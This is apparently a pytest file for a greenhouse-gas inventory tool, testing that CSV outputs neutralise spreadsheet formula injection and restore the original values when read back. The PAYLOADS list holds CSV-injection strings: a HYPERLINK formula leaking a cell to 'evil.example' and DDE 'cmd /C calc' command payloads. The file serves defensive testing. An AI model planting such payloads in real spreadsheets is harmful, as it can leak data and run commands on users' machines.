"""Issue 17 item 6: formula injection in CSV outputs (OWASP "CSV injection").

A region or source that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would
run as a formula when ``inventory.csv``, ``notation_keys.csv`` or ``factors diff --out x.csv`` is
opened in a spreadsheet; every such text cell is written with a leading ``'``. Number columns are
never touched, ordinary names stay as they are, and ghginv's own reading of ``notation_keys.csv``
(recompute) gets the original text back.
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys

import polars as pl
from hypothesis import given, settings
from hypothesis import strategies as st

from ghginv import compile_inventory, load_run
from ghginv.core.csv_cells import FORMULA_START, neutralise_formulas, restore_formulas
from ghginv.runfolder import write_csv

from conftest import ROOT, write_activity

ENERGY = ROOT / "ghginv" / "data" / "factor_sets" / "ipcc2006_energy"
PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
ORDINARY = ["510105", "青羊区", "a=b", "Qingyang-2"]


def _cells(path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def test_payload_regions_are_neutralised_in_inventory_and_notation_csv(tmp_path):
    rows = [dict(year=2024, region=r, sector="1.A.4.b", activity="natural_gas", amount=1.0, unit="TJ", notation_key=None)
            for r in PAYLOADS + ORDINARY]
    rows.append(dict(year=2024, region="@SUM(1)", sector="1.B", activity="natural_gas", amount=None, unit="TJ", notation_key="NO"))
    act = write_activity(tmp_path / "a.parquet", rows)
    out = tmp_path / "out"
    compile_inventory(activity=[str(act)], factors=[str(ENERGY)]).write(out)

    cells = _cells(out / "inventory.csv")
    head, body = cells[0], cells[1:]
    regions = {r[head.index("region")] for r in body}
    assert regions == {"'" + p for p in PAYLOADS} | set(ORDINARY)  # every payload quoted, ordinary names as they were
    assert not [c for r in body for c in r if c[:1] in FORMULA_START and not _is_number(c)]  # no formula cell left
    # numbers stay numbers: the CSV's values are the Parquet's, the region read back without the quote
    pqt = pl.read_parquet(out / "inventory.parquet")
    back = restore_formulas(pl.read_csv(out / "inventory.csv", schema=pqt.schema))
    assert back.equals(pqt)

    ncells = _cells(out / "notation_keys.csv")
    assert ncells[1][ncells[0].index("region")] == "'@SUM(1)"
    # recompute reads its notation_keys.csv back: the original region, not the quoted one
    assert load_run(out).cube.notation["region"].to_list() == ["@SUM(1)"]


def _is_number(c: str) -> bool:
    try:
        float(c)
    except ValueError:
        return False
    return True


def test_negative_numbers_and_ordinary_text_are_unchanged(tmp_path):
    df = pl.DataFrame({"region": ["510105", "青羊区", "-", "-5"], "emissions_t": [-12.5, -0.001, 3.0, 0.0],
                       "n": [-3, -1, 0, 2], "flag": [True, False, True, None]})
    write_csv(df, tmp_path / "x.csv")
    cells = _cells(tmp_path / "x.csv")
    assert [r[1] for r in cells[1:]] == ["-12.5", "-0.001", "3.0", "0.0"]  # numbers as numbers
    assert [r[2] for r in cells[1:]] == ["-3", "-1", "0", "2"]
    assert [r[0] for r in cells[1:]] == ["510105", "青羊区", "'-", "'-5"]  # text that begins with '-' is text, quoted


def test_factors_diff_csv_is_neutralised(tmp_path):
    b = tmp_path / "evil_set"
    shutil.copytree(ENERGY, b)
    manifest = (b / "manifest.toml").read_text(encoding="utf-8")
    (b / "manifest.toml").write_text(manifest.replace('name = "ipcc2006_energy"', 'name = "evil_set"'), encoding="utf-8")
    ef = pl.read_csv(b / "emission_factors.csv", infer_schema_length=0)
    srcs = PAYLOADS[:4]
    source = ef["source"].to_list()
    source[: len(srcs)] = srcs  # the first rows' sources changed: hostile text
    value = ef["value"].to_list()
    value[: len(srcs)] = [str(float(v) + 100) for v in value[: len(srcs)]]  # and their values (a row whose source alone changed is not a difference)
    ef.with_columns(pl.Series("source", source), pl.Series("value", value)).write_csv(b / "emission_factors.csv")
    env = {**os.environ, "COLUMNS": "250"}
    run = [sys.executable, "-m", "ghginv.cli"]
    p = subprocess.run([*run, "factors", "hash", str(b), "--write"], capture_output=True, text=True, cwd=ROOT, env=env)
    assert p.returncode == 0, p.stderr
    p = subprocess.run([*run, "factors", "diff", str(ENERGY), str(b), "--out", str(tmp_path / "x.csv")],
                       capture_output=True, text=True, cwd=ROOT, env=env)
    assert p.returncode == 0, p.stderr
    cells = _cells(tmp_path / "x.csv")
    head, body = cells[0], cells[1:]
    sources = [r[head.index("b_source")] for r in body]
    assert {"'" + s for s in srcs} <= set(sources)
    assert not [c for r in body for c in r if c[:1] in FORMULA_START and not _is_number(c)]
    first = next(r for r in body if r[head.index("b_source")] == "'" + srcs[0])
    assert float(first[head.index("a_value")]) == 73300 and float(first[head.index("b_value")]) == 73400  # crude_oil CO2: numbers as numbers


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.none(), st.text(max_size=12, alphabet=st.sampled_from(list("=+-@\t\r'a1 ,\"\n青"))), st.text(max_size=8)),
                min_size=1, max_size=8))
def test_written_csv_never_starts_a_text_cell_with_a_formula_and_round_trips(tmp_path_factory, values):
    path = tmp_path_factory.mktemp("csv") / "x.csv"
    df = pl.DataFrame({"t": values, "v": [-1.5] * len(values)}, schema={"t": pl.String, "v": pl.Float64})
    write_csv(df, path)
    back = pl.read_csv(path, schema=df.schema)
    assert all(v is None or not v.startswith(FORMULA_START) for v in back["t"].to_list())
    assert back["v"].to_list() == df["v"].to_list()
    assert restore_formulas(back).equals(df)  # exact: a cell that began with ' got a second one
    assert neutralise_formulas(df.filter(pl.col("t").str.contains(r"^[A-Za-z0-9青 ]*$"))).equals(
        df.filter(pl.col("t").str.contains(r"^[A-Za-z0-9青 ]*$")))  # ordinary text untouched
